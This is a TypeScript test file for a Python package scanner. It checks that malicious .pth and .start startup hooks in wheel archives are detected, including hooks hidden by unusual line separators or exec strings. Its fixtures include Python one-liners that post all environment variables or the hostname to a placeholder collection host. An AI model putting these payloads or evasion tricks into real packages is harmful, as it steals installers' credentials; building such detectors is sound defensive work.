import { expect, test } from 'vitest';
import { analyseArchive } from '../../src/analysis/analyse-archive.js';
import type { Finding } from '../../src/core/finding.js';
import { loadPythonParser } from '../../src/python/parser.js';
import * as rules from '../../src/rules/registry.js';
import { inFolder } from '../archive/reading.js';
import { zipOf } from '../archive/hostile-zip.js';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';

const parser = loadPythonParser({ wasmRuntime: 'node_modules/web-tree-sitter/web-tree-sitter.wasm', wasmGrammar: 'data/grammar/tree-sitter-python.wasm' });

/** All that is found in a wheel with these files. */
async function findingsIn(files: Readonly<Record<string, string | Buffer>>): Promise<readonly Finding[]> {
  const name = 'garden-1.0-py3-none-any.whl';
  const members = { 'garden-1.0.dist-info/METADATA': 'Metadata-Version: 2.1\nName: garden\nVersion: 1.0\n', ...files };
  return await inFolder(async (folder) => {
    await writeFile(join(folder, name), zipOf(Object.entries(members).map(([member, data]) => ({ name: member, data }))));
    return (await analyseArchive(join(folder, name), { rules, loadParser: () => parser }, { name: null, version: null })).findings;
  });
}

/** What is found in this file beside the package, with the line, and how grave it is. */
async function found(text: string | Buffer, path = 'garden.pth'): Promise<readonly string[]> {
  const findings = await findingsIn({ 'garden/__init__.py': '', [path]: text });
  return findings.filter(({ file }) => file === path).map(({ rule, line, severity }) => `${severity} ${rule} ${line}`);
}

const SENDS = 'import os, requests; requests.post("https://collect.example.invalid", json=dict(os.environ))';

test('what a line of a .pth file does is judged as code that runs when Python starts', async () => {
  expect(await found(`./plugins\n${SENDS}\n`)).toContain('critical credentials-to-network 2');
  expect(await found(SENDS, 'garden/models/large/weights.pth')).not.toContain('critical credentials-to-network 1');
});

test.each(['\x0B', '\x0C', '\x1C', '\x1D', '\x1E', '\x85', '\u2028', '\u2029'])('what Python 3.13 takes for a new line of its own is code (%j)', async (end) => {
  expect(await found(`./plugins${end}${SENDS}\n`)).toEqual(expect.arrayContaining(['critical credentials-to-network 3', 'critical executable-pth 3']));
  expect(await found(`import garden # the plugins${end}${SENDS}\n`)).toContain('critical credentials-to-network 3');
});

test('a form feed within a line of code is blank space to Pythons before 3.13', async () => {
  expect(await found(SENDS.replace(';', '\x0C;'))).toContain('critical credentials-to-network 1');
});

test('a file that is no UTF-8 is read as well', async () => {
  expect(await found(Buffer.concat([Buffer.from([0xe9, 0x85]), Buffer.from(SENDS)]))).toContain('critical credentials-to-network 3');
});

test('what a line keeps in a text and executes is judged where the line stands', async () => {
  const text = `if os.environ.get("GARDEN"):\\n    import requests\\n    requests.post("https://collect.example.invalid", json=dict(os.environ))\\n`;
  expect(await found(`#\n\nimport os; exec('${text}')\n`)).toContain('critical credentials-to-network 3');
});

test('any number of lines are read in one go', async () => {
  expect(await found(`${'import os\n'.repeat(50_000)}${SENDS}\n`)).toContain('critical credentials-to-network 50001');
  expect(await found(`${"import os; exec('x = 1')\n".repeat(30)}${SENDS}\n`)).toContain('critical credentials-to-network 31');
}, 20_000);

test('a hook for which a variable has to ask warns, however long the text is that it is written in', async () => {
  const text = `if os.environ.get("GARDEN"):\\n${'    # A remark.\\n'.repeat(200)}    import garden\\n    garden.water()\\n`;
  expect(await found(`import os; exec('${text}')\n`)).toEqual(['medium executable-pth 1']);
});

// Worth a word in a function that nobody calls, and a block where Python calls it whenever it starts.
const TELLS_HOST = 'import requests, socket\n\ndef run():\n    requests.post("https://collect.example.invalid", json=[socket.gethostname()])\n';

/** What starts with Python, and what is sent, by file. */
async function foundIn(files: Readonly<Record<string, string>>): Promise<readonly string[]> {
  const findings = (await findingsIn(files)).filter(({ rule }) => /^executable-pth$|-to-network$/.test(rule));
  return findings.map(({ rule, file, line, severity }) => `${severity} ${rule} ${file}:${line}`);
}

test('a function that a .start file names runs whenever Python starts', async () => {
  const files = { 'garden/__init__.py': '', 'garden/hooks.py': TELLS_HOST };
  expect(await foundIn(files)).toEqual([]);
  expect(await foundIn({ ...files, 'garden.start': '# hooks\n\ngarden.hooks:run\n' })).toEqual(['critical host-identity-to-network garden/hooks.py:4', 'medium executable-pth garden.start:3']);
});

test.each(['# garden.hooks:run', 'garden.hooks', 'garden.hooks:', 'garden hooks:run', './lib', ''])('%j in a .start file runs nothing', async (line) => {
  expect(await foundIn({ 'garden/hooks.py': TELLS_HOST, 'garden.start': `${line}\n` })).toEqual([]);
});

test('.start files that Python does not read are data', async () => {
  expect(await foundIn({ 'garden/hooks.py': TELLS_HOST, '.garden.start': 'garden.hooks:run\n', 'garden/levels/one/level.start': 'garden.hooks:run\n' })).toEqual([]);
});
